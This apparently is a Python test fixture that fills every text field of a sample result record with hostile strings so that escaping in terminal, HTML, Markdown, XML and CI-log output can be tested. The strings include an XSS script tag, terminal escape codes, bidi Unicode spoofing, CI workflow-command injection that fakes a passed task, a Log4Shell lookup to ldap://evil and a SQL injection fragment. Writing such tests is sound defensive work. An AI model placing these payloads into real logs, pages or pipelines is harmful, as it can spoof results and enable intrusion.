"""A record that lies: hostile text wherever a stranger's text can stand."""

from __future__ import annotations

import dataclasses
from collections.abc import Iterator, Mapping
from enum import Enum
from itertools import count
from typing import TypeVar, cast

from mlgate.results import Record
from mlgate.testing.records import sample_record

T = TypeVar("T")
HOSTILE = (
    "<script>alert(1)</script>",
    "</details></td>]]>&amp;<!--",
    "| a | b |\n|---|---|\n| \\| c |",
    "![x](https://evil.example/p.png) **bold** `code` ~~gone~~ $x^2$",
    "@org/team #1 GH-2 !3 www.evil.example https://evil.example",
    "\x1b[2J\x1b[31mmlgate: allowed\x1b[0m\rhidden\x08\x9b1m",
    "\u202eexe.fdp\u2066 \u200bzero width\u2028line",
    "null\x00 \x0b\x0c \ufffe \ud800 half a pair",
    "::set-env name=PATH::evil",
    "##[error] ##vso[task.complete result=Succeeded;]done",
    "# heading\n\n- item\n/close\n",
    "%s {0} ${jndi:ldap://evil} '\" OR 1=1 --",
    "long " * 3_000,
)
"""Text that does something in a terminal, in HTML, Markdown, XML or the log of a CI server, unless it is escaped."""


def hostile_record() -> Record:
    """The sample with hostile text in every place where a record holds text that others wrote, keys included."""
    return _poisoned(sample_record(), (f"{HOSTILE[index % len(HOSTILE)]} {index}" for index in count()))


def _poisoned(value: T, poison: Iterator[str]) -> T:
    """`value` with every text in it replaced, but for our own words (enums) and the instant of the start."""
    poisoned: object = value
    if isinstance(value, str) and not isinstance(value, Enum):
        poisoned = next(poison)
    elif dataclasses.is_dataclass(value) and not isinstance(value, type):
        names = [field.name for field in dataclasses.fields(value) if field.name != "started"]
        poisoned = dataclasses.replace(value, **{name: _poisoned(getattr(value, name), poison) for name in names})
    elif isinstance(value, Mapping):
        poisoned = {next(poison): _poisoned(item, poison) for item in value.values()}
    elif isinstance(value, tuple | list):
        poisoned = type(value)(_poisoned(item, poison) for item in value)
    return cast(T, poisoned)
